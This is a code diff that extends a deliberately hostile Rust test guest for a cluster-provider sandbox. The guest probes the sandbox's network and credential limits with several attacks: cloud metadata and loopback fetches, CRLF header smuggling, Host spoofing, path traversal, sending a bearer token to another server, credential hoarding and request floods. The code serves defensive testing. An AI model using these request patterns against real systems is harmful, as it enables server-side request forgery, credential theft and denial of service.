@@ -24,7 +24,9 @@ use std::{
 use self::bindings::{
     capstan::provider::{
         cluster::{self, PatchKind, PatchOptions},
-        events, log,
+        config,
+        credentials::{self, Scheme, SecretKey},
+        events, http, log,
         types::{Failure, ObjectKind, ObjectRef, Problem},
     },
     exports::capstan::provider::{
@@ -42,7 +44,14 @@ static CONNECTED: OnceLock<Behaviour> = OnceLock::new();
 static MEMORY: AtomicU32 = AtomicU32::new(0);
 
 /// Asks for everything: what it gets is for the administrator to say.
-const NEEDS: &str = r#"{"kubernetes": [{"apiGroups": ["*"], "kinds": ["*"], "verbs": ["*"]}]}"#;
+const NEEDS: &str = r#"{
+    "kubernetes": [{"apiGroups": ["*"], "kinds": ["*"], "verbs": ["*"]}],
+    "http": [{"origin": "*"}],
+    "secrets": [{"namespace": "*", "names": ["*"], "keys": ["*"], "origins": ["*"]}]
+}"#;
+
+/// Where the test's server is, by the names that lead to it.
+const CONFIG_SCHEMA: &str = r#"{"type": "object", "properties": {"port": {"type": "integer"}}}"#;
 
 impl describe::Guest for Hostile {
     fn describe() -> Descriptor {
@@ -60,7 +69,7 @@ impl describe::Guest for Hostile {
             version: env!("CARGO_PKG_VERSION").to_owned(),
             kinds: vec![ManagedKind { kind, definition: None, recoverable: true }],
             needs: NEEDS.to_owned(),
-            config_schema: None,
+            config_schema: Some(CONFIG_SCHEMA.to_owned()),
         }
     }
 }
@@ -149,7 +158,7 @@ impl external::Guest for Hostile {
                 let before = MEMORY.fetch_add(1, Relaxed);
                 answer.status = Some(format!(r#"{{"before": {before}}}"#));
             }
-            _ => {}
+            outside => answer.status = reach_out(outside)?,
         }
         Ok(answer)
     }
@@ -241,6 +250,85 @@ fn patch(target: &ObjectRef, patch: &str) -> Result<String, cluster::Error> {
     cluster::patch(target, PatchKind::Merge, patch, &PatchOptions { subresource: None, force: false })
 }
 
+/// What a guest does to other systems. The status tells what came of it.
+fn reach_out(behaviour: Behaviour) -> Result<Option<String>, Failure> {
+    let port = port();
+    let server = |path: &str| format!("http://server.test:{port}{path}");
+    let answer = match behaviour {
+        Behaviour::FetchesMetadata => fetch("http://169.254.169.254/latest/meta-data/")?,
+        Behaviour::FetchesLoopback => fetch(&format!("http://127.0.0.1:{port}/"))?,
+        Behaviour::FetchesAPrivateAddress => fetch("http://10.0.0.1/")?,
+        Behaviour::FetchesAMappedAddress => fetch(&format!("http://[::ffff:127.0.0.1]:{port}/"))?,
+        Behaviour::FetchesANameOfLoopback => fetch(&format!("http://rebound.test:{port}/"))?,
+        Behaviour::FetchesOutsideItsGrant => fetch(&format!("http://elsewhere.test:{port}/?query=told"))?,
+        Behaviour::IsRedirected => {
+            let answer = fetch(&server("/redirect"))?;
+            let location = answer.headers.iter().find(|(name, _)| name == "location");
+            fetch(&location.expect("a redirect has a location").1)?
+        }
+        Behaviour::SmugglesAHeader => send(request(&server("/"), &[("x-name", "value\r\nx-other: smuggled")]))?,
+        Behaviour::NamesAnotherHost => send(request(&server("/"), &[("host", "elsewhere.test")]))?,
+        Behaviour::ClimbsOutOfItsPath => fetch(&format!("http://narrow.test:{port}/in/%2e%2e/out"))?,
+        Behaviour::SendsACredentialElsewhere => {
+            let credential = credentials::open(&secret("token"), &Scheme::Bearer)?;
+            http::fetch(&http::Request { auth: Some(&credential), ..request(&server("/"), &[]) })?
+        }
+        Behaviour::OpensAForeignSecret => {
+            told(&credentials::open(&secret("foreign"), &Scheme::Bearer)?.fingerprint());
+            return Ok(None);
+        }
+        Behaviour::HoardsCredentials => {
+            let mut hoard = Vec::new();
+            loop {
+                hoard.push(credentials::open(&secret("token"), &Scheme::Bearer)?);
+            }
+        }
+        Behaviour::IsBombedWithGzip => fetch(&server("/bomb"))?,
+        Behaviour::IsAnsweredWithoutEnd => fetch(&server("/endless"))?,
+        Behaviour::IsAnsweredWithHeaders => fetch(&server("/headers"))?,
+        Behaviour::IsAnsweredSlowly => send(http::Request { timeout_ms: Some(100), ..request(&server("/slow"), &[]) })?,
+        Behaviour::WaitsForAnAnswer => fetch(&server("/slow"))?,
+        Behaviour::FloodsOtherSystems => loop {
+            let _ = fetch(&server("/"));
+        },
+        Behaviour::DrawsTooMuch => loop {
+            fetch(&server("/large"))?;
+        },
+        _ => return Ok(None),
+    };
+    told(&format!("{}: {}", answer.status, String::from_utf8_lossy(&answer.body)));
+    Ok(None)
+}
+
+fn port() -> u32 {
+    let config = config::get();
+    let digits = config.split_once(r#""port":"#).map_or("", |(_, rest)| rest);
+    digits.trim_end_matches('}').parse().unwrap_or(1)
+}
+
+fn request<'a>(url: &str, headers: &[(&str, &str)]) -> http::Request<'a> {
+    http::Request {
+        method: "GET".to_owned(),
+        url: url.to_owned(),
+        headers: headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
+        body: None,
+        timeout_ms: None,
+        auth: None,
+    }
+}
+
+fn send(request: http::Request<'_>) -> Result<http::Response, http::Error> {
+    http::fetch(&request)
+}
+
+fn fetch(url: &str) -> Result<http::Response, http::Error> {
+    send(request(url, &[]))
+}
+
+fn secret(name: &str) -> SecretKey {
+    SecretKey { namespace: None, name: name.to_owned(), key: "token".to_owned() }
+}
+
 /// Something was given to us that should not have been. Said so that the test sees it.
 fn told(object: &str) {
     panic!("got hold of {object}");
@@ -270,4 +358,30 @@ fn look_around() -> String {
     format!(
         r#"{{"variables": {variables}, "arguments": {arguments}, "files": {files}, "network": {network}, "input": {input}}}"#
     )
+}
+
+impl From<http::Error> for Failure {
+    fn from(error: http::Error) -> Self {
+        let (reason, message) = match error {
+            http::Error::Denied(message) => ("Denied", message),
+            http::Error::TimedOut => ("TimedOut", String::new()),
+            http::Error::RateLimited(millis) => ("RateLimited", millis.to_string()),
+            http::Error::TooLarge(limit) => ("TooLarge", limit.to_string()),
+            http::Error::Unreachable(message) => ("Unreachable", message),
+            http::Error::InvalidRequest(message) => ("InvalidRequest", message),
+        };
+        Self::Terminal(Problem { reason: reason.to_owned(), message })
+    }
+}
+
+impl From<credentials::Error> for Failure {
+    fn from(error: credentials::Error) -> Self {
+        let (reason, message) = match error {
+            credentials::Error::NotFound(message) => ("NotFound", message),
+            credentials::Error::Denied(message) => ("Denied", message),
+            credentials::Error::Invalid(message) => ("Invalid", message),
+            credentials::Error::Unavailable(message) => ("Unavailable", message),
+        };
+        Self::Terminal(Problem { reason: reason.to_owned(), message })
+    }
 }
